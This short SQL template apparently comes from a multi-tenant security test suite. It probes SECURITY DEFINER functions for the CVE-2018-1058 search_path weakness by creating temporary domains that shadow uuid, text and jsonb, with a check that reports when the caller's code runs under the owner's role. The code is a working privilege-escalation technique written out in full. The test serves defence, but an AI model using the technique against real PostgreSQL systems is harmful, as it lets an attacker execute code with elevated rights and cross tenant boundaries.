What is tried on each exposed function, beside calling it with the other tenant's ids. {call} is one such call.

-- attack: shadowed_type
-- title: have it find types of the caller's making, whose checks run with its owner's rights
-- verb: temporary
-- reference: CVE-2018-1058
-- for: definer function
create function pg_temp.attack_ran() returns boolean language plpgsql as $attack$
begin
  if current_user <> {caller_role} then
    raise exception using errcode = 'VTATK', message = 'the caller''s code runs as ' || current_user;
  end if;
  return true;
end
$attack$;
create domain pg_temp.uuid as pg_catalog.uuid check (pg_temp.attack_ran());
create domain pg_temp.text as pg_catalog.text check (pg_temp.attack_ran());
create domain pg_temp.jsonb as pg_catalog.jsonb check (pg_temp.attack_ran());
{call};
